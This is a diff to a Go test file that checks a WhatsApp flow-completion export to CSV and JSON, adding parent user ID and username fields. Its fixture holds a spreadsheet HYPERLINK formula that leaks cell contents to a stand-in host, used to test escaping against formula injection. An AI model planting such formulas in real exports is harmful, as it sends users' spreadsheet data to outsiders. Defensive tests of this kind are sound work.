@@ -32,7 +32,7 @@ const hyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`
 
 func sample() []waflow.Completion {
 	return []waflow.Completion{{
-		MessageID: "wamid.1", Flow: "survey", TokenID: "tok1", WAID: "15551234567", UserID: "US.1", ContextID: "wamid.sent",
+		MessageID: "wamid.1", Flow: "survey", TokenID: "tok1", WAID: "15551234567", UserID: "US.1", ParentUserID: "US.ENT.1", Username: "@ana", ContextID: "wamid.sent",
 		Status: waflow.CompletionHandled, ReceivedAt: at, CompletedAt: at.Add(-time.Second), HandledAt: at.Add(time.Second),
 		Response: []byte(`{"flow_token":"wf1.abc.~secretpart","rating":"4","comments":"` + strings.ReplaceAll(hyperlink, `"`, `\"`) + `",` +
 			`"amount":-12.5,"phone":"+1 555 0100","tags":["a", "b"],"ok":true,"none":null,"note":"line1\nline2, \"quoted\"","later":{"x": 1}}`),
@@ -60,10 +60,10 @@ func TestCSVReadsBack(t *testing.T) {
 		t.Fatalf("encoding/csv cannot read the export: %v", err)
 	}
 	want := [][]string{
-		{"received_at", "message_id", "wa_id", "user_id", "status", "rating", "comments", "amount", "phone", "tags", "ok", "none", "note", "extra"},
-		{"2026-12-03T10:00:00.123456Z", "wamid.1", "15551234567", "US.1", "handled", "4", "'" + hyperlink, "-12.5", "'+1 555 0100", `["a","b"]`, "true", "",
+		{"received_at", "message_id", "wa_id", "user_id", "parent_user_id", "username", "status", "rating", "comments", "amount", "phone", "tags", "ok", "none", "note", "extra"},
+		{"2026-12-03T10:00:00.123456Z", "wamid.1", "15551234567", "US.1", "US.ENT.1", "'@ana", "handled", "4", "'" + hyperlink, "-12.5", "'+1 555 0100", `["a","b"]`, "true", "",
 			"line1\nline2, \"quoted\"", `{"later":{"x":1}}`},
-		{"2026-12-03T10:01:00.123456Z", "wamid.2", "15550000002", "", "rejected", "'@SUM(1+1)", "'-2+3", "", "", "", "", "", "", `{"zoë":"Zoë"}`},
+		{"2026-12-03T10:01:00.123456Z", "wamid.2", "15550000002", "", "", "", "rejected", "'@SUM(1+1)", "'-2+3", "", "", "", "", "", "", `{"zoë":"Zoë"}`},
 	}
 	if !slices.EqualFunc(rows, want, slices.Equal) {
 		t.Fatalf("read back:\n%q\nwant\n%q", rows, want)
@@ -104,6 +104,8 @@ func TestJSONFormats(t *testing.T) {
 		TokenID     string          `json:"token_id"`
 		WAID        string          `json:"wa_id"`
 		UserID      string          `json:"user_id"`
+		ParentID    string          `json:"parent_user_id"`
+		Username    string          `json:"username"`
 		ContextID   string          `json:"context_id"`
 		Status      string          `json:"status"`
 		Result      string          `json:"result"`
@@ -118,7 +120,7 @@ func TestJSONFormats(t *testing.T) {
 			t.Fatalf("%d records", len(recs))
 		}
 		r := recs[0]
-		if r.MessageID != "wamid.1" || r.Flow != "survey" || r.TokenID != "tok1" || r.UserID != "US.1" || r.ContextID != "wamid.sent" ||
+		if r.MessageID != "wamid.1" || r.Flow != "survey" || r.TokenID != "tok1" || r.UserID != "US.1" || r.ParentID != "US.ENT.1" || r.Username != "@ana" || r.ContextID != "wamid.sent" ||
 			r.Status != "handled" || !r.ReceivedAt.Equal(at) || r.HandledAt == nil || !r.HandledAt.Equal(at.Add(time.Second)) {
 			t.Errorf("first record: %+v", r)
 		}
